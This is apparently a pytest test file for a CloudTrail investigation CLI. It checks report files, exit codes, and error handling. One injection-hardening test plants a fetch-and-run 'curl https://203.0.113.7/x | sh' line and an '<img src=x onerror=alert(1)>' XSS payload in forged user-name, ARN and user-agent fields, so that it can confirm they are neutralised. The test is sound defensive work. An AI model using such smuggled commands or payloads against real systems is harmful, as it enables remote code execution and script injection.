"""``sigmaq investigate``: files written, formats, exit codes, usage errors."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import orjson
import pytest
from click.testing import CliRunner, Result

from sigmaq.cli import main
from sigmaq.investigate.render_json import validate

RULE = """\
title: IAM user created for the test
id: 5d0c7b0e-3a52-4c1c-8a51-000000000099
status: test
logsource: {product: aws, service: cloudtrail}
detection:
  sel:
    eventSource: iam.amazonaws.com
    eventName: CreateUser
  condition: sel
level: high
sigmaq:
  playbook: [q1, step-7]
  data_events: []
"""
USER = {
    "type": "IAMUser",
    "arn": "arn:aws:iam::123456789012:user/mallory",
    "userName": "mallory",
    "accountId": "123456789012",
    "accessKeyId": "AKIAIOSFODNN7EXAMPLE",
}


def record(n: int, name: str, params: dict[str, Any]) -> dict[str, Any]:
    return {
        "eventVersion": "1.10",
        "eventTime": f"2026-11-18T14:0{n}:00Z",
        "eventSource": "iam.amazonaws.com",
        "eventName": name,
        "eventID": f"evt-{n}",
        "sourceIPAddress": "203.0.113.9",
        "userIdentity": USER,
        "recipientAccountId": "123456789012",
        "requestParameters": params,
    }


@pytest.fixture
def setup(tmp_path: Path) -> tuple[Path, Path]:
    rules = tmp_path / "rules.yml"
    rules.write_text(RULE)
    data = tmp_path / "trail.json"
    data.write_bytes(
        orjson.dumps(
            {
                "Records": [
                    record(1, "CreateUser", {"userName": "backdoor"}),
                    record(2, "CreateLoginProfile", {"userName": "backdoor"}),
                ]
            }
        )
    )
    return rules, data


def invoke(*args: str | Path) -> Result:
    return CliRunner().invoke(main, ["investigate", *map(str, args)])


def test_writes_the_three_reports(setup: tuple[Path, Path], tmp_path: Path) -> None:
    rules, data = setup
    out = tmp_path / "out"
    result = invoke("--rules", rules, "-o", out, data)
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in out.iterdir()) == ["report.html", "report.json", "report.md"]
    document = json.loads((out / "report.json").read_text())
    assert validate(document) == []
    assert document["findings_total"] == 1
    assert document["findings"][0]["findings"][0]["events"][0]["request"] == {
        "userName": "backdoor"
    }
    (user,) = [r for r in document["resources"] if r["type"] == "iam:user"]
    assert user["id"] == "backdoor" and user["created"]["event_id"] == "evt-1"
    checklist = [c["commands"][-1] for c in document["checklist"] if c["step"] == "step-7"]
    assert "aws iam delete-user --user-name backdoor" in checklist
    assert "aws iam delete-login-profile --user-name backdoor" in checklist
    markdown = (out / "report.md").read_text()
    assert "### Q1. Which resources were created and deleted?" in markdown
    html = (out / "report.html").read_text()
    assert all(f'<section id="q{n}"' in html for n in range(1, 7))
    # no data event in the archive: S3 objects and Q Business documents stay unseen
    assert "wrote" in result.stderr and "q1: partly answered" in result.stderr


def test_one_format_and_a_principal_filter(setup: tuple[Path, Path], tmp_path: Path) -> None:
    rules, data = setup
    out = tmp_path / "only"
    result = invoke("--rules", rules, "-o", out, "--format", "json", "--principal", "nobody", data)
    assert result.exit_code == 0, result.output
    assert [p.name for p in out.iterdir()] == ["report.json"]
    document = json.loads((out / "report.json").read_text())
    assert document["run"]["filtered_out"] == 2 and document["principals"] == []


def test_malformed_input_is_reported_and_exits_1(setup: tuple[Path, Path], tmp_path: Path) -> None:
    rules, data = setup
    broken = tmp_path / "broken.ndjson"
    line = orjson.dumps(record(3, "DeleteUser", {"userName": "backdoor"})).decode()
    broken.write_text(line + '\n{"eventName": "CreateUser"\n')
    out = tmp_path / "out"
    result = invoke("--rules", rules, "-o", out, "--format", "json", data, broken)
    assert result.exit_code == 1, result.output
    document = json.loads((out / "report.json").read_text())
    assert document["run"]["malformed"] == 1 and document["run"]["records_read"] == 3
    assert "broken.ndjson" in result.stderr


def test_a_missing_input_is_counted_unreadable_and_the_others_are_read(
    setup: tuple[Path, Path], tmp_path: Path
) -> None:
    """`investigate good missing`: the missing path is named and counted unreadable in
    the report, the other input is read in full, exit 1."""
    rules, data = setup
    missing = tmp_path / "missing"
    out = tmp_path / "out"
    result = invoke("--rules", rules, "-o", out, "--format", "json", data, missing)
    assert result.exit_code == 1, result.output
    run = json.loads((out / "report.json").read_text())["run"]
    assert (run["files"], run["unreadable_files"], run["records_read"]) == (2, 1, 2)
    assert f"{missing}: no such file or directory" in result.stderr


def test_stderr_verdicts_and_input_counts_match_the_report(
    setup: tuple[Path, Path], tmp_path: Path
) -> None:
    # The terminal summary words each verdict as the report does ("cannot be answered",
    # not a bare "no" that reads as a negative answer) and counts skipped and empty inputs.
    rules, data = setup
    folder = tmp_path / "archive"
    folder.mkdir()
    (folder / "trail.json").write_bytes(data.read_bytes())
    (folder / "empty.json").write_bytes(b"")
    digest = {
        "awsAccountId": "123456789012",
        "digestStartTime": "2026-11-18T13:00:00Z",
        "digestEndTime": "2026-11-18T14:00:00Z",
        "digestS3Bucket": "amzn-s3-demo-bucket",
        "digestS3Object": "digest.json.gz",
        "logFiles": [],
    }
    (folder / "digest.json").write_bytes(orjson.dumps(digest))
    result = invoke("--rules", rules, "-o", tmp_path / "out", "--format", "json", folder)
    assert result.exit_code == 0, result.output
    document = json.loads((tmp_path / "out" / "report.json").read_text())
    assert document["run"]["skipped"] == 1 and document["run"]["empty_files"] == 1
    assert "1 skipped (digests, no eventName), 1 empty" in result.stderr
    assert "q1: partly answered:" in result.stderr
    assert "q2: cannot be answered:" in result.stderr
    assert "q2: no:" not in result.stderr


def test_a_window_that_keeps_no_record_says_so(setup: tuple[Path, Path], tmp_path: Path) -> None:
    rules, data = setup
    out = tmp_path / "o"
    result = invoke("--rules", rules, "--until", "2026-11-17", "-o", out, data)
    assert result.exit_code == 0, result.output
    assert "is within --since/--until/--principal" in result.stderr
    result = invoke("--rules", rules, "--principal", "nobody-here", "-o", out, data)
    assert "is within --since/--until/--principal" in result.stderr
    result = invoke("--rules", rules, "--until", "2026-11-18", "-o", out, data)
    assert "within --since/--until" not in result.stderr


def test_an_archive_with_no_record_is_an_error_not_a_clean_report(
    setup: tuple[Path, Path], tmp_path: Path
) -> None:
    # An empty or wrong folder: six "cannot be answered" and exit 0 would read as "nothing
    # happened"; as hunt does, it exits 1 and says no record was read (the report is
    # still written and shows 0 records).
    rules, _ = setup
    empty = tmp_path / "empty"
    empty.mkdir()
    out = tmp_path / "o"
    result = invoke("--rules", rules, "-o", out, "--format", "json", empty)
    assert result.exit_code == 1, result.output
    assert "no CloudTrail record was read" in result.stderr
    assert json.loads((out / "report.json").read_text())["run"]["records_read"] == 0


def test_usage_errors(setup: tuple[Path, Path], tmp_path: Path) -> None:
    rules, data = setup
    bad = tmp_path / "credentials.csv"
    bad.write_text("user,arn\n")
    result = invoke("--rules", rules, "--credential-report", bad, "-o", tmp_path / "o", data)
    assert result.exit_code == 2 and "credentials.csv" in result.output
    result = invoke("--since", "2026-11-19", "--until", "2026-11-18", data)
    assert result.exit_code == 2 and "--since is after --until" in result.output


def test_listed_in_help() -> None:
    result = CliRunner().invoke(main, ["--help"])
    assert "investigate" in result.output


def test_progress_bar_on_a_terminal(setup: tuple[Path, Path], tmp_path: Path) -> None:
    import io

    from rich.console import Console

    from sigmaq.cli.investigate_cmd import _with_progress
    from sigmaq.investigate.runner import InvestigateOptions

    _, data = setup
    second = tmp_path / "second.json"
    second.write_bytes(data.read_bytes())
    buffer = io.StringIO()
    console = Console(file=buffer, force_terminal=True, width=120)
    report = _with_progress((data, second), [], InvestigateOptions(), {}, console)
    assert report.run.files == 2
    assert "investigating 2/2 files" in buffer.getvalue()


def test_forged_values_cannot_add_markdown_to_the_report(tmp_path: Path) -> None:
    # before: a newline in a forged user agent, ARN or user name ended its line and wrote
    # headings, a fake "Containment checklist" with a `sh` block, and raw HTML into report.md
    import subprocess

    from markdown_it import MarkdownIt

    name = "backdoor\n  ```\n\n# Injected step\n\n```sh\ncurl https://203.0.113.7/x | sh\n```"
    forged = {
        **USER,
        "arn": "arn:aws:iam::123456789012:user/m\n\n# FAKE <img src=x onerror=alert(1)>",
        "userName": "m\n## Fake section",
    }
    event = {
        **record(1, "CreateUser", {"userName": name}),
        "userIdentity": forged,
        "userAgent": "aws-cli/2\n\n## Containment checklist\n\n[click](https://203.0.113.7/)",
    }
    rules = tmp_path / "rules.yml"
    rules.write_text(RULE)
    data = tmp_path / "trail.json"
    data.write_bytes(orjson.dumps({"Records": [event]}))
    out = tmp_path / "out"
    result = invoke("--rules", rules, "-o", out, "--format", "markdown", data)
    assert result.exit_code == 0, result.output
    tokens = MarkdownIt("commonmark").enable("table").parse((out / "report.md").read_text())
    headings = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]
    injected = ("Injected step", "Fake section", "FAKE <img src=x onerror=alert(1)>")
    assert not [h for h in headings if h.startswith(injected)]
    assert headings.count("Containment checklist (playbook steps 6-7)") == 1
    assert "Containment checklist" not in headings
    html = [t.content for t in tokens if t.type in ("html_block", "html_inline")]
    html += [c.content for t in tokens for c in t.children or [] if c.type == "html_inline"]
    assert all(h.strip() in ("</a>", *(f'<a id="q{n}">' for n in range(1, 7))) for h in html), html
    links = [c for t in tokens for c in t.children or [] if c.type in ("link_open", "image")]
    assert all(str(c.attrGet("href") or "").startswith("#q") for c in links)
    fences = [t for t in tokens if t.type == "fence"]
    commands = [line for f in fences for line in f.content.splitlines()]
    assert all(line.startswith("aws ") for line in commands), commands
    (delete,) = [c for c in commands if c.startswith("aws iam delete-user ")]
    # still the exact value, quoted for bash ($'...' for the newlines)
    words = subprocess.run(
        ["bash", "-c", "printf '%s\\0' " + delete], capture_output=True, check=True
    ).stdout.split(b"\0")
    assert words[-2].decode() == name
